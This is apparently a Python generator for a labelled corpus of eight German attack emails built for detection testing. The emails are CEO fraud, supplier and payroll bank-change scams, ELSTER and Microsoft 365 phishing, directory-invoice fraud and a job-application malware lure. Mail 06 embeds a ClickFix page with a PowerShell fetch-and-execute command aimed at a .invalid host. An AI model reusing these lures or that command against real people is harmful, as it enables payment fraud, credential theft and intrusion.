"""Attack messages 01-08 (German)."""

import infra as I
import data as D
import checks as C
from mime import Multi
from compose import Mail, alt, text, html, mixed, related, att_pdf, att_zip, png_qr, att_text, to_html
from world import S

MAILS = []


def add(**kw):
    MAILS.append(Mail(lang="de", folder="attack", **kw))


# 01 ------------------------------------------------------------------------
add(n=1, slug="ceo-fraud-acquisition-vienna",
    via=I.exo, via_kw=dict(consumer=True, lang="de-DE"),
    frm=("Matthias Köhler", "m.koehler.vorstand@outlook.de"), to=[S("ap")],
    subject="Vertraulich – Projekt Donau", date=(2026, 10, 13, 8, 47, 12), zone="DE",
    body=alt("""Guten Morgen Herr Hübner,

ich bin heute und morgen in Wien zu den Gesprächen über die Übernahme des Bestattungsinstituts, über die wir im Vorstand seit einigen Wochen beraten. Die Sache ist noch nicht öffentlich und streng vertraulich – bitte sprechen Sie vorerst mit niemandem darüber, auch nicht im Haus. Frau Weiß ist im Bilde und wird nach dem Signing offiziell eingebunden.

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Anzahlung von 184.500,00 EUR auf das Treuhandkonto der Gegenseite leisten. Die Wiener Kanzlei, die uns vertritt (Dr. Reinhard Aigner), meldet sich im Laufe des Vormittags mit den Kontodaten und dem unterschriebenen Letter of Intent direkt bei Ihnen.

Können Sie mir kurz bestätigen, dass Sie heute vor 14 Uhr eine Auslandsüberweisung ausführen können, und wie hoch Ihr Einzelfreigabelimit ist? Ich sitze den ganzen Tag in Verhandlungen und bin telefonisch nicht erreichbar, bitte nur per Mail.

Danke für Ihre Diskretion.

Beste Grüße
Matthias Köhler

Outlook für iOS herunterladen <https://aka.ms/o0ukef>""", cs="utf-8", cte="quoted-printable", style="outlook"),
    what="CEO fraud, first stage: 'CEO' on an outlook.de free-mail address asks accounts payable to prepare a confidential "
         "foreign transfer for an acquisition in Vienna; a 'lawyer' will follow",
    why="Display name of the CEO on an external consumer Outlook.com account (real address is matthias.koehler@example.com via "
        "mail-int01); secrecy (even towards colleagues), urgency (before 14:00), 'mail only, no phone', asks for the approval "
        "limit, payment to a third-party escrow outside the purchase process.")

# 02 ------------------------------------------------------------------------
add(n=2, slug="supplier-bank-change-lookalike",
    via=I.vps_postfix, via_kw=dict(helo="mail.lieferant-gmbh.com", rdns="static.178.45.203.116.clients.your-server.de",
                                   ip="116.203.45.178", client_desc="[192.168.1.14] (unknown [45.137.21.9])",
                                   mid_style="outlook", mua=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index",
                                                             "Content-Language: de"]),
    frm=("Petra Lang | Lieferant GmbH", "p.lang@lieferant-gmbh.com"), to=[S("ap")], cc=[S("hq_acc")],
    reply_to=("Petra Lang", "p.lang@lieferant-gmbh.com"),
    subject="Änderung unserer Bankverbindung ab 01.11.2026", date=(2026, 10, 19, 10, 12, 40), zone="DE",
    hcs="windows-1252", henc="Q",
    body=mixed(alt("""Sehr geehrter Herr Hübner,
sehr geehrte Frau Böhm,

im Zuge der Zentralisierung unseres Zahlungsverkehrs wechseln wir zum 01.11.2026 unseren Bankpartner. Unser bisheriges Konto bei der Commerzbank Bielefeld wird zum 31.10.2026 aufgelöst; Zahlungseingänge dort können ab diesem Datum nicht mehr zugeordnet werden und gehen an den Auftraggeber zurück.

Bitte hinterlegen Sie ab sofort ausschließlich folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: REVOLT21
Bank: Revolut Bank UAB

Die offenen Posten RE-2026-10418 (18.742,30 EUR) und RE-2026-10455 (6.915,80 EUR), fällig am 23.10.2026, bitten wir bereits auf das neue Konto zu überweisen. Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.

Bitte bestätigen Sie uns die Änderung kurz per E-Mail. Telefonisch sind wir wegen der Umstellung unserer Telefonanlage in dieser Woche leider nur eingeschränkt erreichbar.

Mit freundlichen Grüßen

Petra Lang
Leitung Finanzen

Lieferant GmbH
Sarg- und Urnenmanufaktur
Eckendorfer Straße 118 · 33609 Bielefeld
Amtsgericht Bielefeld HRB 40117 · Geschäftsführer: Stefan Maier""" % D.fmt(D.LIEF_FAKE),
                   cs="windows-1252", cte="quoted-printable", style="outlook"),
               att_pdf("Lieferant_GmbH_neue_Bankverbindung.pdf", [
                   ("Lieferant GmbH", 16, True), "Sarg- und Urnenmanufaktur - Eckendorfer Straße 118 - 33609 Bielefeld", "",
                   "Example Group SE, Kreditorenbuchhaltung", "", ("Mitteilung über die Änderung der Bankverbindung", 12, True), "",
                   "Sehr geehrte Damen und Herren,", "",
                   "hiermit bestätigen wir, dass Zahlungen an die Lieferant GmbH ab dem 01.11.2026",
                   "ausschließlich auf das folgende Konto zu leisten sind:", "",
                   "IBAN: " + D.fmt(D.LIEF_FAKE), "BIC: REVOLT21 (Revolut Bank UAB)", "",
                   "Das bisherige Konto bei der Commerzbank AG wird zum 31.10.2026 geschlossen.", "",
                   "Bielefeld, 16.10.2026", "", "Stefan Maier, Geschäftsführer"],
                   title="Bankverbindung", producer="Microsoft: Print To PDF", creator="Microsoft Word",
                   date="D:20261016153311+02'00'")),
    what="Supplier bank-detail change from the look-alike domain lieferant-gmbh.com (real: lieferant-gmbh.de), new account "
         "at a Lithuanian e-money institution, two open invoices to be redirected",
    why="Look-alike sender domain on a Hetzner VPS (the real supplier mails through IONOS), account moved abroad to an EMI "
        "(Revolut LT) for a German GmbH, old account 'closed', phone verification discouraged, pressure on specific open "
        "items; attached 'confirmation' is a printed Word file, not a signed bank letter. Classic vendor BEC.")

# 03 ------------------------------------------------------------------------
elster_url = "https://mein-elster-nachricht.de/eportal/postfach/abruf?vid=7Q2K9-88314&sn=2520417531"
add(n=3, slug="elster-postfach-phishing",
    via=I.sendgrid, via_kw=dict(em_dom="em7342.mein-elster-nachricht.de"),
    frm=("ELSTER – Ihr Online-Finanzamt", "benachrichtigung@mein-elster-nachricht.de"), to=[S("hq_acc")],
    subject="Neue Nachricht in Ihrem ELSTER-Postfach: Festsetzung eines Verspätungszuschlags (USt-VA 09/2026)",
    date=(2026, 10, 21, 7, 3, 55), zone="DE",
    body=alt("""Sehr geehrte Nutzerin, sehr geehrter Nutzer,

in Ihrem Postfach bei Mein ELSTER ist ein neuer Verwaltungsakt eingegangen.

Absender: Finanzamt Hannover-Nord
Betreff: Festsetzung eines Verspätungszuschlags zur Umsatzsteuer-Voranmeldung September 2026
Steuernummer: 25/204/17531
Abrufbar bis: 27.10.2026

Der Bescheid gilt gemäß § 122a AO am dritten Tag nach Bereitstellung zum Abruf als bekannt gegeben. Die Einspruchsfrist beginnt mit diesem Zeitpunkt.

Zum Abruf melden Sie sich bitte mit Ihrer Zertifikatsdatei und Ihrem Passwort an:

[[Nachricht in Mein ELSTER abrufen|%s]]

Aus Sicherheitsgründen ist die Nachricht nur nach erneuter Anmeldung mit dem Organisationszertifikat abrufbar.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.""" % elster_url,
             cs="utf-8", cte="quoted-printable", style="news", link_style="angle"),
    what="ELSTER credential phishing: 'new administrative act in your ELSTER mailbox' linking to a look-alike portal that "
         "asks for the organisation certificate file and PIN",
    why="Sender domain mein-elster-nachricht.de (ELSTER uses elster.de) sent through a SendGrid account; link to the same "
        "look-alike; asks for certificate file + password (the organisation's tax identity); deadline pressure with a "
        "real legal reference (§ 122a AO) to look authentic.")

# 04 ------------------------------------------------------------------------
qr4 = "https://m365-mfa-renewal.pages.dev/?e=ZnJhbmsuc2NoYWVmZXJAZXhhbXBsZS5jb20"
html4 = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#222">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1">
<tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:18px">Microsoft 365</td></tr>
<tr><td style="padding:20px">
<p><b>Aktion erforderlich: Ihre Multi-Faktor-Authentifizierung läuft ab</b></p>
<p>Hallo Frank Schäfer,</p>
<p>die Registrierung der Microsoft Authenticator-App für <b>frank.schaefer@example.com</b> läuft am <b>16.10.2026</b> ab.
Gemäß der Sicherheitsrichtlinie Ihrer Organisation muss die Registrierung alle 12 Monate erneuert werden.</p>
<p>Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert weniger als eine Minute.</p>
<p style="text-align:center"><img src="cid:mfa-qr-7731@example.com" width="180" height="180" alt="QR-Code"></p>
<p>Ohne Erneuerung wird der Zugriff auf Outlook, Teams und SharePoint ab dem 17.10.2026 eingeschränkt.</p>
<p style="color:#666;font-size:12px">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>
Diese Nachricht wurde von Ihrer IT-Abteilung über Microsoft 365 gesendet.</p>
</td></tr></table></body></html>
"""
add(n=4, slug="quishing-m365-mfa-renewal",
    via=I.strato, via_kw=dict(client_ip="185.107.56.201", webmail=True),
    frm=("Microsoft 365 Sicherheit", "info@baeckerei-hollmann.de"), to=[S("proc")],
    subject="Aktion erforderlich: Erneuerung der Multi-Faktor-Authentifizierung für frank.schaefer@example.com",
    date=(2026, 10, 14, 15, 22, 8), zone="DE",
    body=Multi("alternative", [
        text("""Aktion erforderlich: Ihre Multi-Faktor-Authentifizierung läuft ab

Hallo Frank Schäfer,

die Registrierung der Microsoft Authenticator-App für frank.schaefer@example.com läuft am 16.10.2026 ab. Bitte scannen Sie den QR-Code in dieser Nachricht mit Ihrem Smartphone.

Microsoft 365""", cs="utf-8", cte="quoted-printable"),
        related(html(html4, cs="utf-8", cte="quoted-printable"),
                png_qr(qr4, name="image001.png", cid="mfa-qr-7731@example.com"))], None),
    what="Quishing: 'Microsoft 365' MFA re-registration notice with an inline QR code, sent from a compromised bakery "
         "mailbox at Strato",
    why="Microsoft branding from an unrelated small business (baeckerei-hollmann.de, Strato webmail login from a hosting IP); "
        "the only call to action is a QR code (evades URL rewriting/scanning) pointing to a pages.dev site with the victim's "
        "address base64-encoded; MFA 'expiry' does not exist; threat of restricted access.")

# 05 ------------------------------------------------------------------------
add(n=5, slug="payroll-diversion-employee",
    via=I.gmx, via_kw=dict(brand="web", client_ip="146.70.117.34"),
    frm=("Tobias Kraus", "tobias.kraus.hannover@web.de"), to=[S("hr")],
    subject="Gehaltskonto ändern", date=(2026, 11, 17, 19, 41, 3), zone="DE", hcs="utf-8", henc="Q",
    body=alt("""Hallo Anja,

ich habe mein Gehaltskonto gewechselt und wollte fragen, ob du das noch für die November-Abrechnung umstellen kannst? Das alte Konto bei der Sparkasse löse ich Ende des Monats auf.

Neue Bankverbindung:
Kontoinhaber: Tobias Kraus
IBAN: %s
Bank: DKB

Ich schreibe dir von meiner privaten Adresse, weil ich gerade beim Kunden in Celle bin und der Laptop sich nicht mit dem VPN verbindet. Das Formular im Personalportal reiche ich nach, sobald ich wieder im Büro bin. Wäre super, wenn es trotzdem schon diesen Monat klappt.

Danke dir und viele Grüße
Tobi""" % D.fmt(C.iban_de("12030000", "106338741")), cs="utf-8", cte="quoted-printable",
             style="web"),
    what="Payroll diversion: 'sales employee' writes from a web.de address asking HR to switch his salary account "
         "before the November payroll run",
    why="Unknown private address in the name of an employee (his known private address is tobi.kraus84@gmx.de), request to "
        "bypass the HR portal form, deadline right before the payroll cut-off, account at a direct bank, sent from a VPN "
        "exit IP in the evening. Classic payroll-diversion BEC.")

# 06 ------------------------------------------------------------------------
clickfix_html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>MemoriaSoft Kundenportal - Dokumentvorschau</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f4f6f8;margin:0}
.box{width:460px;margin:80px auto;background:#fff;border:1px solid #d9dde2;border-radius:6px;padding:28px}
.logo{font-weight:bold;color:#3a5a78;font-size:20px;margin-bottom:18px}
.cb{border:1px solid #d0d0d0;border-radius:4px;padding:14px;background:#fafafa}
.steps{background:#fff8e1;border:1px solid #f0d58a;padding:12px 16px;margin-top:16px;font-size:14px}
kbd{border:1px solid #999;border-radius:3px;padding:1px 5px;background:#eee}
textarea{width:100%;height:44px;font-size:11px;color:#888;border:0;resize:none}
</style></head><body>
<div class="box">
<div class="logo">MemoriaSoft Kundenportal</div>
<p>Dokument: <b>EA-2026-08817_Todesbescheinigung_vertraulich.pdf</b> (412 KB)</p>
<div class="cb">&#9744; Ich bin kein Roboter<br><small>reCAPTCHA &middot; Datenschutz &middot; Nutzungsbedingungen</small></div>
<div class="steps"><b>Verifizierungsschritte</b><br>
Um das vertrauliche Dokument anzuzeigen, best&auml;tigen Sie bitte, dass Sie ein Mensch sind:<br>
1. Dr&uuml;cken Sie <kbd>Windows</kbd> + <kbd>R</kbd><br>
2. Dr&uuml;cken Sie <kbd>Strg</kbd> + <kbd>V</kbd><br>
3. Dr&uuml;cken Sie <kbd>Enter</kbd></div>
<!-- Verification string (inert test sample; domain is .invalid) -->
<textarea readonly>powershell -w h -nop -c "irm https://cdn-verify.invalid/ea | iex" # Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 4471-208</textarea>
</div></body></html>
"""
add(n=6, slug="clickfix-memoriasoft-portal",
    via=I.mailgun, via_kw=dict(mg_dom="mg.memoriasoft-kundenportal.de"),
    frm=("MemoriaSoft Kundenportal", "portal@memoriasoft-kundenportal.de"), to=[S("hq_mgr")],
    subject="Einäscherungsauftrag EA-2026-08817: Dokument zur Prüfung bereitgestellt",
    date=(2026, 11, 4, 9, 15, 30), zone="DE",
    body=mixed(alt("""Guten Tag,

im MemoriaSoft Kundenportal wurde für Ihren Standort Hannover ein neues Dokument zum Einäscherungsauftrag EA-2026-08817 bereitgestellt.

Auftraggeber: Bestattungshaus Engel e.K.
Dokument: Todesbescheinigung (vertraulicher Teil) mit Vermerk der zweiten Leichenschau
Status: Prüfung durch Krematorium erforderlich

Aus Datenschutzgründen erhalten Sie das Dokument als geschützte Vorschau im Anhang. Bitte öffnen Sie die Vorschau und bestätigen Sie die Prüfung bis 12:00 Uhr, damit der Einäscherungstermin am Donnerstag gehalten werden kann.

Ihr MemoriaSoft Kundenservice
MemoriaSoft GmbH · Software für das Bestattungswesen""", cs="utf-8", cte="base64", style="news"),
               att_text("text/html", "EA-2026-08817_Vorschau.html", clickfix_html, cs="utf-8", cte="base64",
                        note="HTML, fake reCAPTCHA with Win+R / Ctrl+V / Enter instructions (ClickFix); no script, "
                             "command points to .invalid")),
    what="ClickFix: fake 'MemoriaSoft portal' notice about a cremation order with an HTML 'preview' that instructs the "
         "user to press Win+R, Ctrl+V, Enter",
    why="Look-alike of the real ERP vendor (memoriasoft-kundenportal.de vs memoriasoft.de) through Mailgun; uses real "
        "trade details (cremation order, second post-mortem inspection) for urgency; the HTML attachment is a fake "
        "CAPTCHA that makes the victim paste and run a PowerShell download cradle (ClickFix). Real portal never mails "
        "documents as HTML.")

# 07 ------------------------------------------------------------------------
add(n=7, slug="fake-register-invoice",
    via=I.ses, via_kw=dict(region="eu-central-1"),
    frm=("DFR Deutsches Firmenregister Bestattungswesen", "rechnung@dfr-branchenregister.de"), to=[S("hq_acc")],
    subject="Rechnung DFR-2026-118834 – Eintragung Example Group SE", date=(2026, 11, 10, 11, 2, 14), zone="DE",
    body=mixed(text("""Sehr geehrte Damen und Herren,

anbei erhalten Sie die Rechnung DFR-2026-118834 für die Eintragung Ihres Unternehmens im Deutschen Firmenregister für das Bestattungs- und Friedhofswesen.

Eintragung: Example Group SE, Hannover
Registerangaben: Amtsgericht Hannover, Bestattungs- und Krematoriumsdienstleistungen
Rechnungsbetrag: 1.414,91 EUR (1.189,00 EUR zzgl. 19 % USt.)
Zahlbar bis: 24.11.2026

Bitte überweisen Sie den Betrag unter Angabe der Rechnungsnummer auf das in der Rechnung genannte Konto. Nach Zahlungseingang wird Ihr Eintrag für die Laufzeit freigeschaltet.

Mit freundlichen Grüßen
DFR Abrechnungsstelle
Tel. 030 5683 2219 (Mo-Fr 9-13 Uhr)""", cs="iso-8859-15", cte="8bit"),
               att_pdf("DFR-2026-118834.pdf", [
                   ("DFR Deutsches Firmenregister", 16, True), "für das Bestattungs- und Friedhofswesen", "",
                   "Example Group SE", "Hannover", "", ("Rechnung / Offerte Nr. DFR-2026-118834", 12, True),
                   "Datum: 10.11.2026        Kunden-Nr.: 7724-0917", "",
                   "Pos. 1  Eintragung Branchenregister Bestattungswesen, Basiseintrag", "        Laufzeit 36 Monate, jährlich          1.189,00 EUR",
                   "        zzgl. 19 % USt.                          225,91 EUR", ("        Gesamtbetrag                          1.414,91 EUR", 10, True), "",
                   "Zahlbar bis 24.11.2026 auf: IBAN " + D.fmt(D.REG_FAKE_DE) + "  BIC GIBASKBX", "", "",
                   ("Hinweis: Diese Offerte stellt ein Angebot zur Eintragung in unser privates Verzeichnis dar.", 6, False),
                   ("Mit Zahlung des Betrages kommt der Vertrag über die Laufzeit von 36 Monaten zustande.", 6, False),
                   ("Es besteht kein Zusammenhang mit dem Handelsregister oder amtlichen Bekanntmachungen.", 6, False)],
                   title="Rechnung", producer="dompdf 2.0.3 + CPDF", creator="dompdf",
                   date="D:20261110105900+01'00'")),
    what="Fake directory 'invoice': a private business register presents an offer as a due invoice, payable to a Slovak account",
    why="No prior order; offer disguised as invoice (small print: contract concluded by paying, 36 months); official-sounding "
        "name mimicking register publications; foreign account; sent via Amazon SES from a newly registered domain. "
        "Register/directory fraud (Adressbuchschwindel).")

# 08 ------------------------------------------------------------------------
add(n=8, slug="job-application-protected-zip",
    via=I.gmx, via_kw=dict(brand="gmx", client_ip="94.131.102.77"),
    frm=("Laura Schneider", "laura.schneider.bewerbung@gmx.de"), to=[S("hr")],
    subject="Bewerbung als Bestattungsfachkraft (m/w/d) – Standort Hannover", date=(2026, 10, 27, 10, 36, 51), zone="DE",
    body=mixed(text("""Sehr geehrte Frau Brückner,

mit großem Interesse habe ich Ihre Stellenanzeige für eine Bestattungsfachkraft (m/w/d) am Standort Hannover gelesen und bewerbe mich hiermit um diese Position.

Nach meiner Ausbildung zur Bestattungsfachkraft in Braunschweig war ich vier Jahre in einem familiengeführten Bestattungshaus tätig, unter anderem in der hygienischen Versorgung, der Überführung und der Begleitung von Angehörigen. Die Arbeit im Krematorium möchte ich nun gerne vertiefen.

Meine vollständigen Unterlagen (Anschreiben, Lebenslauf, Zeugnisse) finden Sie im Anhang. Da die Dokumente sensible personenbezogene Daten enthalten, habe ich das Archiv mit einem Passwort geschützt.

Passwort: Bewerbung2026

Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.

Mit freundlichen Grüßen
Laura Schneider""", cs="iso-8859-1", cte="quoted-printable"),
               att_zip("Bewerbung_Laura_Schneider.zip", [
                   ("Bewerbung_Laura_Schneider/Lebenslauf_Laura_Schneider.pdf.lnk", "inert placeholder\n"),
                   ("Bewerbung_Laura_Schneider/Zeugnisse_Schneider.pdf.exe", "inert placeholder\n")],
                   password="Bewerbung2026", dt=(2026, 10, 27, 10, 20, 0))),
    what="Fake job application with a password-protected ZIP holding a .pdf.lnk and a .pdf.exe",
    why="Encrypted archive with the password in the body (defeats scanning), double extensions (.pdf.lnk / .pdf.exe) "
        "inside; well-known 'Bewerbung' malware/ransomware lure to HR; genuine applicants send PDFs or use the portal.")
